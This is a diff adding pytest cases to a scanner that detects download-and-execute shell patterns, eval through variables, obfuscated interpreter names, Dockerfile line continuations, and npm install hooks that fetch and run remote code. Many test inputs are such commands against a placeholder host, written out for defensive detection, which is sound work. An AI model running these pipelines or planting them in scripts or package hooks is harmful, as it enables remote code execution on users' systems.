@@ -131,3 +131,242 @@ def test_the_shell_reader_recovers(data: bytes, code: bytes, hidden: bytes) -> N
     lexed = lex(data, spanning=True)
     assert not lexed.hidden(data.index(code))
     assert not hidden or lexed.hidden(data.rindex(hidden))
+
+
+@pytest.mark.parametrize(
+    ("source", "rule_id"),
+    [
+        ('e=eval\n$e "$x"\n', "shell-eval"),
+        ('e=eval; ${e} "$x"\n', "shell-eval"),
+        ('e="eval"\n"${e}" "$x"\n', "shell-eval"),
+        ("run=bash\ncurl -fsSL https://x.io/i | $run\n", _PIPE),
+        ('run=/bin/sh; curl -fsSL https://x.io/i | sudo "$run"\n', _PIPE),
+        ("get=curl\n$get -fsSL https://x.io/i | sh\n", _PIPE),
+    ],
+)
+def test_a_command_word_a_variable_names(repo: GitRepo, source: str, rule_id: str) -> None:
+    found = _found(repo, "s.sh", source)
+    assert [(line, id_) for _, line, id_ in found][-1:] == [(source.count("\n"), rule_id)]
+
+
+@pytest.mark.parametrize(
+    ("path", "source", "line"),
+    [
+        ("s.sh", "curl -o f https://x.io/i && sh f\n", 1),
+        ("s.sh", "wget -O /tmp/x https://x.io/i; bash /tmp/x\n", 1),
+        ("s.sh", "curl https://x.io/i > f\nchmod +x f\n./f\n", 3),
+        ("s.sh", "curl -fsSL https://x.io/i -o ./env.sh\n. ./env.sh\n", 2),
+        ("s.sh", "curl -fsSL --output=env.sh https://x.io/i\nsource env.sh\n", 2),
+        ("s.sh", "curl -sSLo /tmp/i.py https://x.io/i\npython3 -u /tmp/i.py --yes\n", 2),
+        ("s.sh", "wget --output-document /tmp/i https://x.io/i\nsudo -E /tmp/i\n", 2),
+        ("s.sh", 'f=/tmp/i.sh\ncurl -o "$f" https://x.io/i\nsh "$f"\n', 3),
+        ("s.sh", "curl -O https://x.io/get.sh\nbash get.sh\n", 2),
+        ("s.sh", "curl --remote-name https://x.io/get.sh?v=1\nbash get.sh\n", 2),
+        ("s.sh", "curl --output /tmp/i https://x.io/i\n/tmp/i\n", 2),
+        ("s.sh", "wget https://x.io/get.sh\nif sh get.sh; then :; fi\n", 2),
+        ("s.sh", "wget --output-document=/tmp/i.rb https://x.io/i\nruby /tmp/i.rb\n", 2),
+        ("Dockerfile", "FROM alpine\nRUN curl -o /i.sh https://x.io/i && sh /i.sh\n", 2),
+        (".github/workflows/ci.yml", "steps:\n  - run: curl -o i.sh https://x.io/i\n  - run: bash i.sh\n", 3),
+    ],
+)
+def test_a_download_written_to_a_file_then_run(repo: GitRepo, path: str, source: str, line: int) -> None:
+    assert _found(repo, path, source) == [(path, line, _PIPE)]
+
+
+def test_a_download_run_is_reported_on_the_added_line(repo: GitRepo) -> None:
+    base = {"s.sh": "curl -o f https://x.io/i\n"}
+    head = {"s.sh": "curl -o f https://x.io/i\nsh f\n"}
+    assert where(scan(RULE, change_of(repo, head, base))) == [("s.sh", 2, _PIPE)]
+    other = GitRepo.create(repo.root.parent / "other")
+    elsewhere = {"s.sh": "curl -o f https://x.io/i\nsh f\necho done\n"}
+    assert where(scan(RULE, change_of(other, elsewhere, head))) == []
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "set -e\ncurl https://x.io/i | xargs bash -c\n",
+        "set -e\ncurl https://x.io/i | xargs -0 -I{} sh -c {}\n",
+        "set -e\ncurl https://x.io/i | su -c bash\n",
+        "set -e\ncurl https://x.io/i | su root -c 'bash -s'\n",
+        "set -e\ncurl https://x.io/i | sudo bash\n",
+        "set -e\ncurl https://x.io/i | sudo -u x sh\n",
+        "set -e\ncurl https://x.io/i | sudo -u python sh\n",
+        "set -e\ncurl https://x.io/i | env sh\n",
+        "set -e\ncurl https://x.io/i | env -u HOME A=1 sh\n",
+        "set -e\ncurl https://x.io/i | nice python3\n",
+        "set -e\ncurl https://x.io/i | nice -n 5 python3\n",
+        "set -e\ncurl https://x.io/i | timeout 9 bash\n",
+        "set -e\ncurl https://x.io/i | timeout -s KILL 9 bash\n",
+        "set -e\ncurl https://x.io/i | doas -u root sh\n",
+        "set -e\ncurl https://x.io/i | busybox sh\n",
+        "set -e\ncurl https://x.io/i | sudo nice -n 1 timeout 5 sh\n",
+        "set -e\ncurl https://x.io/i | LC_ALL=C sudo A=1 sh\n",
+        "set -e\ncurl https://x.io/i | xargs -I % sh -c %\n",
+        "set -e\ncurl https://x.io/i | bash -x\n",
+    ],
+)
+def test_piped_through_a_wrapper_into_an_interpreter(repo: GitRepo, source: str) -> None:
+    assert _found(repo, "s.sh", source) == [("s.sh", 2, _PIPE)]
+
+
+@pytest.mark.parametrize(
+    ("source", "rule_id"),
+    [
+        ("set -e\ncurl https://x.io/i | b\\ash\n", _PIPE),
+        ("set -e\ncurl https://x.io/i | ba''sh\n", _PIPE),
+        ('set -e\ncurl https://x.io/i | "ba"sh\n', _PIPE),
+        ("set -e\ncurl https://x.io/i | sudo 'ba'\"sh\"\n", _PIPE),
+        ("set -e\nc''url https://x.io/i | sh\n", _PIPE),
+        ('x=1\ne"val" "$y"\n', "shell-eval"),
+        ('x=1\n\\eval "$y"\n', "shell-eval"),
+        ("x=1\n'ev'al \"$y\"\n", "shell-eval"),
+    ],
+)
+def test_words_the_shell_joins(repo: GitRepo, source: str, rule_id: str) -> None:
+    assert _found(repo, "s.sh", source) == [("s.sh", 2, rule_id)]
+
+
+@pytest.mark.parametrize(
+    ("path", "source"),
+    [
+        ("s.sh", "curl -o f https://x.io/i\n"),
+        ("s.sh", "curl -o f https://x.io/i\ncat f\n"),
+        ("s.sh", "sh f\ncurl -o f https://x.io/i\n"),
+        ("s.sh", "curl -o f https://x.io/i\nsha256sum -c f.sha256\nsh f\n"),
+        ("s.sh", "curl -o f.tgz https://x.io/i\ngpg --verify f.tgz.asc f.tgz && sh f.tgz\n"),
+        ("s.sh", "curl -o f https://x.io/i\nsh g\n"),
+        ("s.sh", "curl -o f https://x.io/i\necho sh f\n"),
+        ("s.sh", "echo bash\n"),
+        ("s.sh", "echo 'ba''sh'\n"),
+        ("s.sh", 'e=echo\n$e "$x"\n'),
+        ("s.sh", 'e=eval\necho "$e"\n'),
+        ("s.sh", 'e=eval\ne=echo\n$e "$x"\n'),
+        ("s.sh", '$e "$x"\n'),
+        ("s.sh", "curl https://x.io/i | xargs rm\n"),
+        ("s.sh", "curl https://x.io/i | xargs sh install.sh\n"),
+        ("s.sh", "curl https://x.io/i | xargs bash -x\n"),
+        ("s.sh", "curl https://x.io/i | xargs -I % sh -c 'echo %'\n"),
+        ("s.sh", "curl https://x.io/i | sh install.sh\n"),
+        ("s.sh", "curl https://x.io/i | sh -c 'cat; echo'\n"),
+        ("s.sh", "curl https://x.io/i | sudo\n"),
+        ("s.sh", "curl -o f https://x.io/i\nsu -c f\n"),
+        ("s.sh", "curl -o f https://x.io/i\ntimeout f\n"),
+        ("s.sh", "curl -o f https://x.io/i\nf\n"),
+        ("s.sh", "curl -o f https://x.io/i\nsh -c f\n"),
+        ("s.sh", 'curl -o f https://x.io/i\necho "sh f now"\n'),
+        ("s.sh", "curl -o- https://x.io/i > /dev/null 2>/tmp/log\nsh /tmp/log\n"),
+        ("s.sh", 'echo "a; e=eval"\n$e "$x"\n'),
+        ("s.sh", 'e=eval\necho "a $e b"\n'),
+        ("s.sh", 'echo e=eval\n$e "$x"\n'),
+        ("s.sh", "wget https://x.io/foo.deb && dpkg -i foo.deb\n"),
+        ("s.sh", "curl -o /tmp/x.tgz https://x.io/x.tgz && tar xzf /tmp/x.tgz -C /opt\n"),
+        (
+            "s.sh",
+            'curl -fsSLo /usr/share/keyrings/k.gpg https://x.io/k\necho "deb [signed-by=/usr/share/keyrings/k.gpg] x"\n',
+        ),
+        ("Dockerfile", "FROM x\nRUN curl -o /i.sh https://x.io/i && echo /i.sh\n"),
+        ("s.sh", 'e=eval\n$e/x "$y"\n'),
+        ("s.sh", "echo \"a 'ev'al b\"\n"),
+        ("s.sh", "curl https://x.io/i | xargs sh -c 'echo \"$0\"'\n"),
+        ("s.sh", "curl https://x.io/i | sudo tee /etc/x\n"),
+        ("s.sh", "curl https://x.io/i | sudo -u python tee x\n"),
+        ("s.sh", "curl https://x.io/i | su -c 'cat > x'\n"),
+        ("s.sh", "curl https://x.io/i | env sh -c 'cat > x'\n"),
+        ("s.sh", "curl https://x.io/i | timeout 9 python3 -m json.tool\n"),
+        ("s.sh", "echo 'e\"val\"'\n"),
+        ("s.sh", 'echo "ba"sh\n'),
+        ("README.md", "curl -o f https://x.io/i && sh f\ne=eval; $e x\ncurl x | sudo -u x sh\n"),
+    ],
+)
+def test_shell_holes_near_misses(repo: GitRepo, path: str, source: str) -> None:
+    assert _found(repo, path, source) == []
+
+
+@pytest.mark.parametrize(
+    ("source", "line"),
+    [
+        ("# escape=`\nFROM alpine\nRUN curl -fsSL https://x.io/i `\n  -L | sh\n", 3),
+        ("# escape=`\nFROM alpine\nRUN e=sh; curl -fsSL https://x.io/i `\n  -L `\n  | $e\n", 3),
+        (
+            "# syntax=docker/dockerfile:1\n# Escape = `\nFROM alpine\nRUN curl https://x.io/i `  \n -L | bash\n",
+            4,
+        ),
+        ("# escape=\\\nFROM alpine\nRUN curl https://x.io/i \\\n -L | sh\n", 3),
+    ],
+)
+def test_a_dockerfile_joins_lines_with_its_escape_character(repo: GitRepo, source: str, line: int) -> None:
+    assert _found(repo, "Dockerfile", source) == [("Dockerfile", line, _PIPE)]
+
+
+def test_a_dockerfile_backquote_continues_nothing_without_the_directive(repo: GitRepo) -> None:
+    source = "FROM alpine\n# escape=`\nRUN curl https://x.io/i `\n  -L | sh\n"  # after an instruction
+    assert _found(repo, "Dockerfile", source) == []
+
+
+def test_a_dockerfile_escape_directive_read_from_the_hunk_that_holds_the_first_line(repo: GitRepo) -> None:
+    base = {"Dockerfile": "# escape=`\nFROM alpine\n"}
+    head = {"Dockerfile": "# escape=`\nFROM alpine\nRUN curl https://x.io/i `\n  -L | sh\n"}
+    assert (
+        where(scan(RULE, change_of(repo, head, base, texts=False))) == []
+    )  # the directive is not in the hunk
+    other = GitRepo.create(repo.root.parent / "other")
+    assert where(scan(RULE, change_of(other, head, texts=False))) == [("Dockerfile", 3, _PIPE)]
+
+
+_PACKAGE = """{{
+  "name": "x",
+  "description": "curl x | sh",
+  "scripts": {{
+    "build": "tsc",
+{script}
+  }},
+  "config": {{"scripts": {{"other": "curl https://x.io/i | sh"}}}}
+}}
+"""
+
+
+@pytest.mark.parametrize(
+    ("script", "key"),
+    [
+        ('    "postinstall": "curl -fsSL https://x.io/i | sh"', "postinstall"),
+        ('    "preinstall": "node x.js && wget -qO- https://x.io/i | bash"', "preinstall"),
+        ('    "setup": "curl -o i.sh https://x.io/i && sh i.sh"', "setup"),
+        ('    "go": "e=eval; $e \\"$(cat x)\\""', "go"),
+        ('    "go": "curl https://x.io/i | \\u0062ash"', "go"),
+    ],
+)
+def test_package_json_scripts_are_shell(repo: GitRepo, script: str, key: str) -> None:
+    found = scan(RULE, change_of(repo, {"package.json": _PACKAGE.format(script=script)}))
+    assert [(v.path, v.line) for v in found] == [("package.json", 6)]
+    assert f"`{key}`" in found[0].message
+    assert ("npm install" in found[0].message) == key.endswith("install")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        _PACKAGE.format(script='    "test": "echo bash"'),
+        '{"description": "curl x | sh", "scripts": {"test": "jest"}}\n',
+        '{"scripts": {"test": "jest"}}\n',
+        '{"scripts": {"test": "jest"}, "readme": "curl x | sh"}\n',
+        '{"scripts": "curl x | sh"}\n',
+        '{"scripts": {"test": "curl x | sh"\n',
+        '[{"scripts": {"test": "curl x | sh"}}]\n',
+    ],
+)
+def test_package_json_other_strings_are_not_shell(repo: GitRepo, text: str) -> None:
+    assert _found(repo, "package.json", text) == []
+
+
+def test_package_json_scripts_need_the_new_text_and_an_added_line(repo: GitRepo) -> None:
+    base = {"package.json": '{"scripts": {"postinstall": "curl https://x.io/i | sh"}}\n'}
+    head = {"package.json": '{"scripts": {"postinstall": "curl https://x.io/i | sh"}}\n\n'}
+    assert where(scan(RULE, change_of(repo, head, base))) == []
+    other = GitRepo.create(repo.root.parent / "other")
+    changed = {"package.json": '{"scripts": {"postinstall": "curl https://x.io/i | sh"}}\n'}
+    assert where(scan(RULE, change_of(other, changed, {"package.json": "{}\n"}, texts=False))) == []
+
+
+def test_a_json_file_other_than_package_json_is_not_shell(repo: GitRepo) -> None:
+    assert _found(repo, "other.json", '{"scripts": {"x": "curl x | sh"}}\n') == []
